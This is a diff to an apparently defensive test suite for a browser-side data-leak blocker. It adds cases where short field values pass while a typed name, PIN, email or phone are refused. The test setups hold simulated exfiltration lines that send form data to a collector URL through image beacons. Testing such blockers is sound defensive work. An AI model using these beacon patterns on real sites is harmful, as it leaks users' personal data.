@@ -114,6 +114,24 @@ describe('what the boundary must let through', function () {
     expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
   });
 
+  // Short field values: a quantity of 100, a "yes" chosen from a list, are no data a request can
+  // leak, and "100" inside "1000" or "ada" inside "canada" is no match; a typed short name, a
+  // PIN, an email or a phone still is.
+  const shortValues = `${page}<label>Quantity <input id="qty" value="100"></label><label>Newsletter <select id="news"><option>no</option><option selected>yes</option></select></label>
+    <label>First name <input id="first" value="Ada"></label><label>PIN <input id="pin" type="password" value="4821"></label><label>Phone <input id="tel" value="415-555-2671"></label>`;
+  it('an address holding short values the fields hold (a quantity, a choice) loads', async () => {
+    const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url('/thumbs/canada.jpg?w=1000&page=100&hd=yes'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => record.path)).to.deep.equal(['/thumbs/canada.jpg']);
+  });
+  for (const query of ['n=Ada', 'p=4821', 'e=ada@example.com', 't=415-555-2671']) {
+    it(`a typed short name, a PIN, an email, a phone are still refused (${query})`, async () => {
+      const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url(`/p.gif?${query}`))) });
+      expect(await sink.received(300)).to.deep.equal([]);
+      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    });
+  }
+
   it('markup with one picture carrying the data goes in without that address, the rest whole', async () => {
     const run = await attack({ page, setup: (root) => onSave(() => root.insertAdjacentHTML('beforeend', `<section id="gallery"><h2>Gallery</h2>
       <img id="cdn" alt="Cover" src="${sink.url('/large/cover.jpg?w=1200')}"><img id="spy" alt="" src="${sink.url('/p.gif?e=ada@example.com')}"></section>`))(root) });
